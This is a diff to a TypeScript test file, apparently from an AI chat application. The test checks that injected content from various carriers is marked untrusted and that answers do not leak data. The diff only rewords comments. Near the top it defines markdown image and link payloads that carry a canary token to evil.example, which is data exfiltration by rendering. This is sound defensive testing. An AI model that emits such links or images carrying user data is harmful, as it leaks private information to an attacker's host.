@@ -6,7 +6,7 @@ import { carriersOf } from "./carriers.ts";
 import { CANARY, obedientModel, order } from "./obedient-model.ts";
 import { account, Town } from "./town.ts";
 
-// An answer needs no call to get out: a page that loads its image, or a person who follows its link, tells the host what stands in the address.
+// An answer can leak data without a call: a page that loads its image, or a person who follows its link, sends the address to the host.
 const IMAGE = `![chart](https://evil.example/${CANARY}.png)`;
 const LINK = `[the details](https://evil.example/?q=${CANARY})`;
 
@@ -24,6 +24,6 @@ test.each(carriers)("an answer after $name tells its page to load nothing and to
 
   await session.rewind();
   const [, before] = toUIMessages(await readConversation(session));
-  // What stands in every request was read by then.
+  // Texts in every request were read by then.
   expect(before?.metadata?.untrusted).toBe(carrier.isInHead);
 });
